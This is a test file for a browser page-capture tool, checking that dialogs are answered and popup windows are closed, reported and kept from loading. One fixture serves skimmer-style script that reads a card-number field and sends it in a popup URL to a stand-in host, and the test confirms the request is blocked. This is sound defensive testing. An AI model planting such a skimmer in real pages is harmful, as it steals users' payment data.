// Guards visits of pages that open dialogs and windows: answered or closed, told of, and the rest of the page is there.
import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import type { RunningBrowser } from '#index.ts'
import { capture, page, type Site, serve, shop, startBrowser } from './fixture.ts'

let browser: RunningBrowser
let site: Site

beforeAll(async () => {
  site = await serve({
    '/dialogs': shop(
      'alert("one"); confirm("two"); prompt("three"); onbeforeunload = (event) => { event.preventDefault(); return "stay" }; window.m_after_dialogs = 1',
    ),
    '/popup': shop('window.open("/popped")'),
    '/popup-steals': shop(
      'const card = document.querySelector("input"); card.onchange = () => { if (card.value.length > 12) open("http://other.localhost:PORT/stolen?c=" + card.value) }',
    ),
    '/popup-elsewhere': shop('window.open("http://other.localhost:PORT/popped")'),
    '/popped': page('popped<script src="/in-the-popup.js"></script>'),
  })
  browser = await startBrowser()
})
afterAll(async () => {
  await browser?.close()
  await site?.close()
})

async function outcomeOf(path: string) {
  const bundle = await capture(browser, site.url(path))
  return { ...bundle.capture.outcome, bundle }
}

describe('a page that opens things is partial, and everything else of it is there', () => {
  it('answers dialogs, the one on leaving included, and says so', async () => {
    const { bundle, ...outcome } = await outcomeOf('/dialogs')
    expect(outcome).toMatchObject({ status: 'partial', code: 'dialog-held' })
    expect(outcome.issues.map(({ cause }) => cause.values.type ?? cause.code)).toEqual(['alert', 'confirm', 'prompt', 'dialog-leaving'])
    expect([...bundle.bodies.values()].map((body) => Buffer.from(body).toString()).join()).toContain('m_after_dialogs')
    expect(bundle.capture.canary?.typedInto).toMatchObject([{ verified: true }])
  })

  it.each([
    ['its own site', '/popup', '/popped'],
    ['another site', '/popup-elsewhere', 'other.localhost'],
  ])('closes a window of %s, names its address, and loads nothing in it', async (_whose, path, address) => {
    const before = site.arrived.length
    const { bundle, ...outcome } = await outcomeOf(path)
    expect(outcome).toMatchObject({ status: 'partial', code: 'popup-closed', issues: [{ code: 'popup-closed' }] })
    expect(outcome.cause?.values.address).toContain(address)
    expect(bundle.capture.page.settled).toBe(true)
    expect(site.arrived.slice(before).join()).not.toContain('/popped')
    expect(bundle.capture.scripts.every((script) => bundle.capture.frames.some((frame) => frame.id === script.frameId))).toBe(true)
  })

  it('finds what was typed in the address of a window, which never loads', async () => {
    const { bundle } = await outcomeOf('/popup-steals')
    expect(site.arrived.join()).not.toContain('/stolen')
    expect(bundle.capture.canary?.sightings).toMatchObject([
      { value: 'card', host: expect.stringContaining('other.localhost'), where: 'url', blocked: true },
    ])
    expect(bundle.capture.requests.find((request) => request.url.includes('/stolen'))).toMatchObject({ failure: { by: 'egress' } })
  })
})
